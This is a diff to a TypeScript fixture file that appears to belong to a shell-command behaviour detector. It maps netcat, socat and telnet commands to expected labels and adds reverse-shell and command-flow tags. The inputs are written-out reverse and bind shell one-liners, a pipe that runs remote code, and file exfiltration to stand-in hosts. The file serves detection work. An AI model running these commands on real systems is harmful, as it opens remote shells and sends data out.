@@ -39,17 +39,17 @@ export const SOCKETS: readonly Program[] = [
     examples: {
       'nc a.example 80': 'net a.example',
       'nc -e /bin/sh a.example 80':
-        'flow net:a.example>exec; net a.example; opaque code; remote; run sh; socket reverse-shell a.example',
+        'flow cmd:sh>net:a.example; flow net:a.example>exec; net a.example; opaque code; remote; run sh; socket reverse-shell a.example',
       "ncat -c 'rm x' a.example 1": 'delete x; net a.example; run rm',
       'nc -lvp 80 -e /bin/bash':
-        'flow net:*>exec; opaque code; remote; run bash; socket bind-shell; socket listen',
+        'flow cmd:bash>net:*; flow net:*>exec; opaque code; remote; run bash; socket bind-shell; socket listen',
       'nc -lvp 80': 'socket listen',
       'nc a.example 80 < x': 'flow x>net:a.example; net a.example; read x',
       'nc a.example 80 | bash': 'flow net:a.example>exec; net a.example; opaque code; remote; run bash',
       'sh -i | nc a.example 80':
         'flow cmd:sh>net:a.example; net a.example; run nc; socket reverse-shell a.example',
       'mkfifo f; cat f | sh -i 2>&1 | nc a.example 80 > f':
-        'flow f>exec; flow net:a.example>exec; net a.example; opaque code; read f; remote; run cat; run nc; run sh; write f',
+        'flow cmd:sh>net:a.example; flow f>exec; flow net:a.example>exec; net a.example; opaque code; read f; remote; run cat; run nc; run sh; socket reverse-shell a.example; write f',
       'nc -zv a.example 22': 'net a.example',
     },
   },
@@ -59,12 +59,12 @@ export const SOCKETS: readonly Program[] = [
     behaviour: 'socat',
     examples: {
       'socat TCP:a.example:80 EXEC:/bin/sh':
-        'flow net:a.example>exec; net a.example; opaque code; remote; run sh; socket reverse-shell a.example',
+        'flow cmd:sh>net:a.example; flow net:a.example>exec; net a.example; opaque code; remote; run sh; socket reverse-shell a.example',
       "socat exec:'bash -li',pty tcp:a.example:80":
-        'flow net:a.example>exec; net a.example; opaque code; remote; run bash; socket reverse-shell a.example',
+        'flow cmd:bash>net:a.example; flow net:a.example>exec; net a.example; opaque code; remote; run bash; socket reverse-shell a.example',
       'socat -u FILE:x TCP:a.example:80': 'flow x>net:a.example; net a.example; read x',
       'socat TCP-LISTEN:80,fork EXEC:sh':
-        'flow net:*>exec; opaque code; remote; run sh; socket bind-shell; socket listen',
+        'flow cmd:sh>net:*; flow net:*>exec; opaque code; remote; run sh; socket bind-shell; socket listen',
       'tar c d | socat - TCP:a.example:80': 'flow d>net:a.example; net a.example; read -r d; run socat',
       'socat - UNIX-CONNECT:/run/x.sock': 'nothing',
       'socat TCP-LISTEN:80,fork TCP:b.example:80':
@@ -80,7 +80,7 @@ export const SOCKETS: readonly Program[] = [
     examples: {
       'telnet a.example 80': 'net a.example',
       'telnet a.example 1 | sh | telnet a.example 2':
-        'flow net:a.example>exec; net a.example; opaque code; remote; run sh; run telnet',
+        'flow cmd:sh>net:a.example; flow net:a.example>exec; net a.example; opaque code; remote; run sh; run telnet; socket reverse-shell a.example',
     },
   },
   {
